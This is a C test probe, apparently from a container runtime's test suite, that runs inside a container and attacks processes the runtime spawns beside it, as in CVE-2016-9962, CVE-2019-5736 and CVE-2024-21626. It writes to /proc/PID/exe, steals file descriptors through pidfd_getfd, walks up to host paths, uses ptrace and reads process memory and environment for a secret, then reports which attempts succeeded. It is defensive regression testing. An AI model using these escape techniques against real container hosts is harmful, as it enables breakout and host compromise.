/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * A process of a container that attacks others which are born beside it, as an `exec`
 * is: it looks for each new process id and tries to get at all that the process has
 * (CVE-2016-9962, CVE-2019-5736, CVE-2024-21626). What it got is said once. Runs as the
 * program of a container.
 */
#include "tests/probe/probe.h"

#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#define SAID_MAX 256
#ifndef SO_PEERPIDFD
#define SO_PEERPIDFD 77 /* Linux 6.5 */
#endif

#ifndef SO_PASSPIDFD
#define SO_PASSPIDFD 76 /* Linux 6.5 */
#define SCM_PIDFD    4
#endif

#define FDS	  48
#define AHEAD	  4	    /* process ids behind the newest that are tried */
#define MEM_MAX	  (4 << 20) /* of one mapping */
#define UPWARDS	  "../../../../../../../../../../../../../../../.."
#define PATH_SIZE 4096

struct spy {
	const char *stop;   /* the end is when this file is there */
	const char *target; /* an absolute path of the host */
	char secret[64];    /* a text that the runtime knows, and the document does not */
	bool trace, halt, end, talk;
	size_t said;
	unsigned hashes[SAID_MAX];
};

/* Each line once; one write, for there are several spies */
__attribute__((format(printf, 2, 3))) static void say(struct spy *s, const char *format,
						      ...)
{
	char line[PATH_SIZE];
	unsigned hash = 5381;
	va_list args;
	int n;

	va_start(args, format);
	n = vsnprintf(line, sizeof(line) - 1, format, args);
	va_end(args);
	if (n < 0 || n > (int)sizeof(line) - 2)
		n = (int)sizeof(line) - 2;
	line[n++] = '\n';
	for (int i = 0; i < n; i++)
		hash = hash * 33 + (unsigned char)line[i];
	for (size_t i = 0; i < s->said; i++)
		if (s->hashes[i] == hash)
			return;
	if (s->said == SAID_MAX)
		return;
	s->hashes[s->said++] = hash;
	if (write(STDOUT_FILENO, line, (size_t)n) < 0)
		_exit(99);
}

/* Does this directory lead to the file of the host? */
static void follow(struct spy *s, int dir, const char *by)
{
	char path[PATH_SIZE];
	int fd;

	snprintf(path, sizeof(path), UPWARDS "%s", s->target);
	fd = openat(dir, path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return;
	say(s, "host=%s", by);
	close(fd);
}

static void try_link(struct spy *s, pid_t pid, const char *name, bool directory)
{
	char path[64], text[1024];
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
	n = readlink(path, text, sizeof(text) - 1);
	if (n < 0)
		return;
	text[n] = '\0';
	say(s, "%.3s=%s", name, text);
	fd = open(path, O_PATH | O_CLOEXEC | (directory ? O_DIRECTORY : 0));
	if (fd < 0)
		return;
	if (directory)
		follow(s, fd, name);
	close(fd);
}

/* What it runs, which must not be to be changed by that */
static void try_exe(struct spy *s, pid_t pid)
{
	char path[64];
	int fd;

	try_link(s, pid, "exe", false);
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	say(s, "exe.write=%s", outcome(write(fd, "#!", 2)));
	close(fd);
}

static void try_files(struct spy *s, pid_t pid)
{
	char name[16];

	for (int i = 0; i < FDS; i++) {
		snprintf(name, sizeof(name), "fd/%d", i);
		try_link(s, pid, name, true);
	}
}

/* The sync socket tells the host what we like; the host must not believe it */
static void try_talk(struct spy *s, int fd)
{
	struct {
		unsigned kind;
		int pid;
		char rest[700];
	} m = { .pid = 1 };
	int kind;
	socklen_t len = sizeof(kind);

	if (!s->talk || getsockopt(fd, SOL_SOCKET, SO_TYPE, &kind, &len) < 0)
		return;
	memset(m.rest, 'A', sizeof(m.rest));
	for (m.kind = 0; m.kind < 12; m.kind++)
		say(s, "talk=%s", outcome(send(fd, &m, sizeof(m), MSG_DONTWAIT)));
	send(fd, &m, 524, MSG_DONTWAIT);
	send(fd, &m, 3, MSG_DONTWAIT);
}

/* Who holds the other end of a socket can be had as a pidfd, whatever its namespaces; and
 * a pidfd gives all that the process has open */
static void try_behind(struct spy *s, int fd)
{
	int peer = -1;
	socklen_t len = sizeof(peer);

	if (getsockopt(fd, SOL_SOCKET, SO_PEERPIDFD, &peer, &len) < 0)
		peer = dup(fd);
	else
		say(s, "peer=ok");
	for (int i = 0; i < FDS; i++) {
		int got = (int)syscall(SYS_pidfd_getfd, peer, i, 0);

		if (got < 0)
			continue;
		say(s, "behind=ok");
		follow(s, got, "behind");
		close(got);
	}
	close(peer);
}

static void try_getfd(struct spy *s, int pidfd)
{
	for (int i = 3; i < FDS; i++) {
		int fd = (int)syscall(SYS_pidfd_getfd, pidfd, i, 0);

		if (fd < 0 && errno == EPERM)
			say(s, "getfd=EPERM");
		if (fd < 0)
			continue;
		say(s, "getfd=ok");
		follow(s, fd, "getfd");
		try_behind(s, fd);
		try_talk(s, fd);
		close(fd);
	}
}

/* Is the secret in its memory? */
static void search(struct spy *s, pid_t pid, unsigned long from, size_t len)
{
	struct iovec there = { (void *)from, len < MEM_MAX ? len : MEM_MAX };
	struct iovec here = { malloc(there.iov_len), there.iov_len };
	ssize_t n;

	if (!here.iov_base)
		give_up("malloc");
	n = process_vm_readv(pid, &here, 1, &there, 1, 0);
	say(s, "vm=%s", outcome(n));
	if (n > 0 && memmem(here.iov_base, (size_t)n, s->secret, strlen(s->secret)))
		say(s, "secret=memory");
	free(here.iov_base);
}

static void try_memory(struct spy *s, pid_t pid)
{
	unsigned long from, to;
	char path[64], line[PATH_SIZE];
	FILE *f;

	snprintf(path, sizeof(path), "/proc/%d/maps", pid);
	f = fopen(path, "re");
	if (!f)
		return;
	while (fgets(line, sizeof(line), f))
		if (sscanf(line, "%lx-%lx", &from, &to) == 2)
			search(s, pid, from, to - from);
	fclose(f);
}

static void try_environment(struct spy *s, pid_t pid)
{
	char path[64], text[PATH_SIZE];
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/environ", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	n = read(fd, text, sizeof(text));
	if (n > 0 && memmem(text, (size_t)n, s->secret, strlen(s->secret)))
		say(s, "secret=environment");
	close(fd);
}

static void try_namespaces(struct spy *s, pid_t pid)
{
	static const char *const names[] = { "mnt", "net",  "ipc",   "uts",
					     "pid", "user", "cgroup" };
	char path[64];
	struct stat own, other;

	for (size_t i = 0; i < ARRAY_LEN(names); i++) {
		snprintf(path, sizeof(path), "/proc/self/ns/%s", names[i]);
		if (stat(path, &own) < 0)
			continue;
		snprintf(path, sizeof(path), "/proc/%d/ns/%s", pid, names[i]);
		if (stat(path, &other) == 0)
			say(s, "ns.%s=%s", names[i],
			    own.st_ino == other.st_ino ? "same" : "other");
	}
}

static void try_trace(struct spy *s, pid_t pid)
{
	long r = ptrace(PTRACE_SEIZE, pid, 0, 0);
	int status;

	say(s, "ptrace=%s", outcome(r));
	if (r < 0)
		return;
	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0 &&
	    waitpid(pid, &status, __WALL) == pid) {
		try_exe(s, pid);
		try_files(s, pid);
		ptrace(PTRACE_DETACH, pid, 0, 0);
	}
}

/* Is it the runtime's program still? One that we must not look into says EACCES. */
static bool is_strange(struct spy *s, pid_t pid)
{
	char path[64], text[1024];
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	n = readlink(path, text, sizeof(text) - 1);
	if (n < 0 && (errno == EACCES || errno == EPERM))
		say(s, "met=undumpable");
	if (n < 0)
		return errno == EACCES || errno == EPERM;
	text[n] = '\0';
	if (strcmp(text, "/probe") == 0)
		return false;
	say(s, "met=%s", text);
	return true;
}

static void attack(struct spy *s, pid_t pid)
{
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);

	while (pidfd >= 0 && is_strange(s, pid)) {
		struct rlimit old;

		if (s->halt)
			say(s, "stop=%s", outcome(kill(pid, SIGSTOP)));
		try_exe(s, pid);
		try_link(s, pid, "root", true);
		try_link(s, pid, "cwd", true);
		try_files(s, pid);
		try_getfd(s, pidfd);
		try_memory(s, pid);
		try_environment(s, pid);
		try_namespaces(s, pid);
		say(s, "prlimit=%s", outcome(prlimit(pid, RLIMIT_CORE, NULL, &old)));
		if (s->trace)
			try_trace(s, pid);
		if (s->halt)
			kill(pid, SIGCONT);
		if (s->end)
			kill(pid, SIGKILL);
		if (kill(pid, 0) < 0)
			break;
	}
	if (pidfd >= 0)
		close(pidfd);
}

/* Process ids are given in order: the next one is a new process. A file that is there is
 * looked for now and then only. */
static void watch(struct spy *s, pid_t newest)
{
	for (unsigned turn = 0; turn % 4096 || access(s->stop, F_OK) < 0; turn++) {
		pid_t pid = newest + 1 + (pid_t)(turn % AHEAD);

		if (kill(pid, 0) < 0 && errno == ESRCH)
			continue;
		newest = pid;
		attack(s, pid);
	}
}

static bool has(const char *words, const char *word)
{
	return strstr(words, word) != NULL;
}

/* Not an argument: the document is in the memory of what enters the container */
static void read_secret(struct spy *s, const char *path)
{
	FILE *f = fopen(path, "re");

	if (!f || !fgets(s->secret, sizeof(s->secret), f))
		give_up(path);
	s->secret[strcspn(s->secret, "\n")] = '\0';
	fclose(f);
}

/* spy COUNT READY STOP TARGET SECRET-FILE [trace,stop,kill,talk]: until the file STOP is
 * there; TARGET is a path of the host. "host=" and "secret=" say what must never be. */
static int spy_spy(int argc, char **argv)
{
	unsigned long count = number(argv[1], 64);
	const char *words = argc > 6 ? argv[6] : "";
	struct spy s = { .stop = argv[3],
			 .target = argv[4],
			 .trace = has(words, "trace"),
			 .halt = has(words, "stop"),
			 .end = has(words, "kill"),
			 .talk = has(words, "talk") };
	pid_t newest = getpid() + (pid_t)count;

	read_secret(&s, argv[5]);
	for (unsigned long i = 0; i < count; i++) {
		pid_t pid = fork();

		if (pid < 0)
			give_up("fork");
		if (pid == 0) {
			watch(&s, newest);
			_exit(0);
		}
	}
	tell(argv[2]);
	while (wait(NULL) > 0 || errno == EINTR)
		;
	return 0;
}

/* The socket on which a created container beside us waits for its start, or -1 */
static int take_listener(pid_t pid)
{
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);

	for (int i = 3; pidfd >= 0 && i < FDS; i++) {
		int fd = (int)syscall(SYS_pidfd_getfd, pidfd, i, 0), listens = 0;
		socklen_t len = sizeof(listens);

		if (fd >= 0 &&
		    getsockopt(fd, SOL_SOCKET, SO_ACCEPTCONN, &listens, &len) == 0 &&
		    listens)
			return fd;
		close(fd);
	}
	close(pidfd);
	return -1;
}

/* Who sent the message that comes? -1: the kernel does not say */
static int sender(struct spy *s, int fd)
{
	char text[1024], control[256];
	struct iovec part = { text, sizeof(text) };
	struct msghdr h = { .msg_iov = &part,
			    .msg_iovlen = 1,
			    .msg_control = control,
			    .msg_controllen = sizeof(control) };
	int got = -1;

	say(s, "start=%s", outcome(recvmsg(fd, &h, 0)));
	for (struct cmsghdr *c = CMSG_FIRSTHDR(&h); c; c = CMSG_NXTHDR(&h, c))
		if (c->cmsg_level == SOL_SOCKET && c->cmsg_type == SCM_PIDFD)
			memcpy(&got, CMSG_DATA(c), sizeof(got));
	return got;
}

static void try_files_of(struct spy *s, int pidfd, const char *by)
{
	for (int i = 0; pidfd >= 0 && i < FDS; i++) {
		int got = (int)syscall(SYS_pidfd_getfd, pidfd, i, 0);

		if (got < 0)
			continue;
		say(s, "behind=%s", by);
		follow(s, got, by);
		close(got);
	}
}

/* spy-start PID READY TARGET: takes the start of the created container whose init is the
 * process PID of our namespace, and tries what leads to who started it */
static int spy_start(int argc, char **argv)
{
	struct spy s = { .target = argv[3] };
	int listener = take_listener((pid_t)number(argv[1], 1 << 22)), conn, peer = -1;
	int on = 1;
	socklen_t len = sizeof(peer);

	(void)argc;
	if (listener < 0)
		give_up("no socket that listens");
	say(&s, "pass=%s",
	    outcome(setsockopt(listener, SOL_SOCKET, SO_PASSPIDFD, &on, sizeof(on))));
	if (getsockopt(listener, SOL_SOCKET, SO_PEERPIDFD, &peer, &len) == 0)
		try_files_of(&s, peer, "listener");
	tell(argv[2]);
	conn = accept(listener, NULL, NULL);
	if (conn < 0)
		give_up("accept");
	len = sizeof(peer);
	if (getsockopt(conn, SOL_SOCKET, SO_PEERPIDFD, &peer, &len) == 0)
		try_files_of(&s, peer, "peer");
	setsockopt(conn, SOL_SOCKET, SO_PASSPIDFD, &on, sizeof(on));
	try_files_of(&s, sender(&s, conn), "sender");
	return 0;
}

const struct command spy_commands[] = {
	{ "spy-start", 3, 3, spy_start, "PID READY TARGET" },
	{ "spy", 5, 6, spy_spy, "COUNT READY STOP TARGET SECRET-FILE [WORDS]" },
	{ NULL, 0, 0, NULL, NULL },
};
